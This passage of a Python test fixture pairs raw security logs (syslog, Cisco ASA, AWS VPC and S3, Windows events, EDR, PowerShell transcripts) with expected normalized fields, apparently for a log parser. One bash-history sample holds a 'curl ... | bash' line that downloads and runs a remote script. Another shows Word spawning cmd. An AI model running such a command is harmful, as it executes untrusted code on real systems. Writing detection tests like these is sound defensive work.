        json.dumps({"log": _COMBINED + "\n", "stream": "stdout", "time": "2024-03-05T10:11:12.5Z"}),
        "access",
        {"action": "web_request", "src_ip": "203.0.113.9"},
        {"stream": "stdout"},
    ),
    Sample(
        "table_syslog.jsonl",
        json.dumps(
            {
                "TimeGenerated": "2024-03-05T10:11:12Z",
                "Computer": "web-2",
                "ProcessName": "sshd",
                "Facility": "auth",
                "SyslogMessage": "Accepted password for dana from 203.0.113.9 port 22 ssh2",
            }
        ),
        "syslog",
        {"service": "sshd", "user": "dana", "outcome": "success", "host": "web-2"},
        {},
        _T,
    ),
    Sample(
        "asa.log",
        'Mar  5 10:11:12 fw1 %ASA-4-106023: Deny tcp src outside:203.0.113.9/4711 dst inside:10.0.0.5/22 by access-group "in" [0x0, 0x0]',
        "cisco",
        {
            "action": "network_block",
            "outcome": "failure",
            "src_ip": "203.0.113.9",
            "dst_ip": "10.0.0.5",
            "dst_port": 22,
            "host": "fw1",
        },
        {},
        _T,
    ),
    Sample(
        "asa_aaa.log",
        "<166>Mar 05 2024 10:11:12: %ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : server = 10.0.0.5 : user = dana : user IP = 203.0.113.9",
        "cisco",
        {"action": "login", "outcome": "failure", "user": "dana", "src_ip": "203.0.113.9"},
        {},
        _T,
    ),
    Sample(
        "vpcflow.log",
        "2 111122223333 eni-0ab 10.0.0.9 203.0.113.9 4711 22 6 20 4249 1709633472 1709633532 REJECT OK",
        "aws_text",
        {
            "action": "network_block",
            "src_ip": "10.0.0.9",
            "dst_ip": "203.0.113.9",
            "dst_port": 22,
            "category": "firewall",
        },
        {},
        _T,
    ),
    Sample(
        "s3.log",
        '79a5 shopbucket [05/Mar/2024:10:11:12 +0000] 203.0.113.9 arn:aws:iam::111122223333:user/dana 3E57 REST.GET.OBJECT a.zip "GET /shopbucket/a.zip HTTP/1.1" 200 - 113 - 7 - "-" "curl/8.0" -',
        "aws_text",
        {"action": "data_read", "user": "dana", "target": "shopbucket/a.zip", "src_ip": "203.0.113.9"},
    ),
    Sample(
        ".bash_history",
        "#1709633472\ncurl -s http://203.0.113.9/x.sh | bash\n",
        "history",
        {"action": "process_start", "command": "curl -s http://203.0.113.9/x.sh | bash", "process": "curl"},
        {},
        _T,
    ),
    Sample(
        "rendered.jsonl",
        json.dumps(
            {
                "Id": 4624,
                "ProviderName": "Microsoft-Windows-Security-Auditing",
                "LogName": "Security",
                "MachineName": "dc01",
                "TimeCreated": "/Date(1709633472000)/",
                "Message": "An account was successfully logged on.\r\n\r\nSubject:\r\n\tAccount Name:\t\tDC01$\r\n\r\nNew Logon:\r\n\tAccount Name:\t\tdana\r\n"
                "\r\nNetwork Information:\r\n\tSource Network Address:\t203.0.113.9\r\n",
            }
        ),
        "windows",
        {"user": "dana", "src_ip": "203.0.113.9", "action": "login", "outcome": "success", "host": "dc01"},
        {"SubjectUserName": "DC01$"},
        _T,
    ),
    Sample(
        "sensor.jsonl",
        json.dumps(
            {
                "ts": 1709633472,
                "device_name": "wks-07",
                "user_name": "dana",
                "process_path": "C:\\Windows\\System32\\cmd.exe",
                "cmdline": "cmd /c whoami",
                "parent_process": "winword.exe",
            }
        ),
        "json",
        {"category": "process_creation", "product": "windows", "host": "wks-07", "parent": "winword.exe"},
        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami", "ParentImage": "winword.exe"},
        _T,
    ),
    Sample(
        "activity_with_list.jsonl",
        json.dumps(
            {
                "kind": "admin#reports#activity",
                "id": {"time": "2024-03-05T10:11:12Z"},
                "actor": {"email": "dana@example.com"},
                "ipAddress": "203.0.113.5",
                "events": [
                    {"type": "login", "name": "login_failure", "parameters": [{"name": "login_type", "value": "x"}]}
                ],
            }
        ),
        "saas",
        {"action": "login", "outcome": "failure", "user": "dana@example.com", "src_ip": "203.0.113.5"},
        {"events.parameters.login_type": "x"},
        _T,
    ),
    Sample(
        "PowerShell_transcript.WKS-07.ab12cd34.20240305101112.txt",
        "**********************\nWindows PowerShell transcript start\nStart time: 20240305101112\nUsername: EXAMPLE\\dana\n"
        "RunAs User: EXAMPLE\\dana\nConfiguration Name:\nMachine: WKS-07 (Microsoft Windows NT 10.0.19045.0)\n"
        "Host Application: powershell.exe -nop\nProcess ID: 811\n**********************\nPS C:\\> whoami\n",
        "transcript",
        {
            "action": "process_start",
            "host": "WKS-07",
            "user": "EXAMPLE\\dana",
            "command": "powershell.exe -nop",
            "process": "powershell.exe",
        },
        {"run_as": "EXAMPLE\\dana"},
        _T,
        2,
    ),
]
